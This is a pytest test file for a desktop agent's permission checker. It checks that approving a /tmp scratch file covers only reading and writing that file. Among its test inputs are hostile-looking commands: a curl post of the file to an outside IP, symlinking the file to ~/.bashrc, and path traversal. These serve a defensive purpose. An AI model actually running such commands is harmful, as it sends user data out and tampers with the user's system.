from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from uuid import uuid4

import pytest

from desktop_agent.permissions.judgement import Verdict
from tests.permissions.world import HELD, World


@pytest.fixture
def made() -> Iterator[Path]:
    """Return a name in the /tmp that all share, of which nothing is there."""
    path = Path("/tmp") / f"desktop-agent-test-{uuid4().hex}.log"
    yield path
    path.unlink(missing_ok=True)


def test_a_file_that_a_command_makes_in_tmp_is_one_approval(made: Path, world: World) -> None:
    grants = world.ruling(f"sort a.txt > {made}").scopes
    assert [scope.id for scope in grants] == [f"scratch {made}"]
    made.write_text("x")
    for command in (f"cat {made}", f"tail -5 {made} | head", f"sort b.txt > {made}", f"sort b.txt | tee {made}"):
        assert world.ruling(command, grants=grants).verdict is Verdict.RUN
    assert world.ruling(f"cat {made}").verdict is Verdict.ASK


@pytest.mark.parametrize(
    "command",
    [
        *("bash {made}", "source {made}", "python3 {made}", "chmod +x {made}", "{made}", "rm {made}"),
        *("cat {made}x", "sort a.txt > {made}.sh", "ln -s ~/.bashrc {made}", "cat {made}*", "cp a.txt {made}"),
        *("sort a.txt > ../{made}x", "curl -d @{made} http://203.0.113.9/", "sh < {made}", "awk -f {made} a.txt"),
    ],
)
def test_it_covers_nothing_but_writing_and_reading_that_name(command: str, made: Path, world: World) -> None:
    grants = world.ruling(f"sort a.txt > {made}").scopes
    made.write_text("echo x")
    assert world.ruling(command.format(made=made), grants=grants).verdict is Verdict.ASK


def test_what_is_there_already_is_asked_about_by_itself(made: Path, world: World) -> None:
    made.write_text("somebody's")
    assert [scope.partition(":")[0] for scope in world.scopes(f"sort a.txt > {made}")] == ["exact"]


@pytest.mark.parametrize("kind", ["link", "hard link", "executable", "folder"])
def test_what_came_to_lie_there_instead_is_asked_about(kind: str, made: Path, world: World, tmp_path: Path) -> None:
    grants = world.ruling(f"sort a.txt > {made}").scopes
    other = Path("/tmp") / f"desktop-agent-test-{uuid4().hex}"
    try:
        if kind == "link":
            made.symlink_to(world.home / ".bashrc")
        elif kind == "hard link":
            other.write_text("x")
            made.hardlink_to(other)
        elif kind == "executable":
            made.write_text("x")
            made.chmod(0o755)
        else:
            made.mkdir()
        for command in (f"sort a.txt > {made}", f"cat {made}"):
            assert world.ruling(command, grants=grants).verdict is Verdict.ASK
    finally:
        other.unlink(missing_ok=True)
        if made.is_dir() and not made.is_symlink():
            made.rmdir()


def test_a_link_that_the_same_command_makes_is_no_scratch_file(made: Path, world: World) -> None:
    grants = world.ruling(f"sort a.txt > {made}").scopes
    asked = world.ruling(f"ln -s ~/.bashrc {made}; sort a.txt > {made}", grants=grants)
    assert asked.verdict is Verdict.ASK


@pytest.mark.parametrize(
    "path", ["/tmp/.X11-unix", "/tmp/x/y", "/tmp/../etc/x", "/var/tmp/x-new-name", "/tmp/.hidden-new"]
)
def test_other_names_are_no_scratch_files(path: str, world: World) -> None:
    assert not any(scope.startswith("scratch") for scope in world.scopes(f"sort a.txt > {path}"))


def test_in_a_sandbox_the_temp_folder_is_its_own(made: Path, world: World) -> None:
    assert world.ruling(f"sort a.txt > {made}", sandbox=HELD).verdict is Verdict.RUN
    assert [scope.id for scope in world.ruling(f"rm {made}", sandbox=HELD).scopes] == ["scratch folder"]
